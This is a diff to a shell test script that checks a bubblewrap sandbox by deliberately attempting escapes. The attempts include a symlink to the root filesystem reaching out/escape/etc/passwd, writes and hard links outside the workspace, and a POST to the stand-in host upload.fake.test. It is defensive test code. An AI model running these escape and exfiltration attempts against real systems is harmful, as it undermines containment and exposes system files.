@@ -133,10 +133,13 @@ ln -s / "$out/escape"
 mkfifo "$out/fifo"
 mkdir -p "$out/dir"
 truncate -s 10G "$out/sparse"
-# Inside the confinement the run's directory itself is read-only, and a hard link across its binds
-# cannot be made (EXDEV): the link to a file outside the workspace is one to the workspace's README.
+# Inside the confinement the run's directory itself is read-only, and a hard link to a file outside the
+# workspace (its own, in the run's home) cannot be made across the binds (EXDEV). So that the export's
+# refusal of a file with two names is exercised too, the link it does make is one to the workspace's README.
 if echo "outside" >"$HOME/../outside.txt" 2>/dev/null; then note "write-run-dir: WORKED"; else note "write-run-dir: refused"; fi
-ln "$HOME/../outside.txt" "$out/hard" 2>/dev/null || ln README "$out/hard" 2>/dev/null || note "hard-link: could not make"
+echo "outside" >"$HOME/outside.txt"
+if ln "$HOME/outside.txt" "$out/hard" 2>/dev/null; then note "hard-link-outside: WORKED"; else note "hard-link-outside: refused"; fi
+[ -e "$out/hard" ] || ln README "$out/hard" 2>/dev/null || note "hard-link: could not make"
 # A POST the policy refuses.
 if curl -s -o /dev/null -w '%{http_code}' -m 5 -X POST -d x https://upload.fake.test/p | grep -q 403; then
         note "post: 403"
@@ -212,6 +215,8 @@ expect_contains "the runner's checkout was not written" "write-runner-checkout: 
 expect_eq "the runner's checkout is unchanged" original "$(cat "$RUNNER_HOME/checkout/file")"
 expect_contains "the POST met the proxy's 403" "post: 403" "$(cat "$W/attempts.txt")"
 expect_contains "the run's directory outside its binds was not written" "write-run-dir: refused" "$(cat "$W/attempts.txt")"
+expect_contains "no hard link to a file outside the workspace (EXDEV across the binds)" "hard-link-outside: refused" \
+        "$(cat "$W/attempts.txt")"
 expect_lacks "the hard link was made" "hard-link: could not make" "$(cat "$W/attempts.txt")"
 expect_contains "summary.json: the confinement" '"confine": "bubblewrap"' "$(cat "$OUT/summary.json")"
 env_seen=$(cat "$W/env.txt")
@@ -225,6 +230,10 @@ expect_contains "GITHUB_WORKSPACE is the clone" "GITHUB_WORKSPACE=$SANDBOX_HOME/
 for f in link.txt escape fifo dir sparse hard never-written; do
         expect_absent "out/$f was not exported" "$W/$f"
 done
+expect_eq "exactly the legitimate outputs were exported" \
+        "attempts.txt env.txt pwd.txt review.md task-seen.txt trusted-seen.json" \
+        "$(find "$OUT/workspace" -mindepth 1 \( -type d -printf '%P/\n' -o -printf '%P\n' \) | grep -v '^out/$' |
+                sed 's,^out/,,' | sort | tr '\n' ' ' | sed 's/ $//')"
 md=$(cat "$OUT/summary.md")
 expect_contains "summary: the link refused" "| out/link.txt | refused |" "$md"
 expect_contains "summary: the link component refused" "| out/escape/etc/passwd | refused |" "$md"
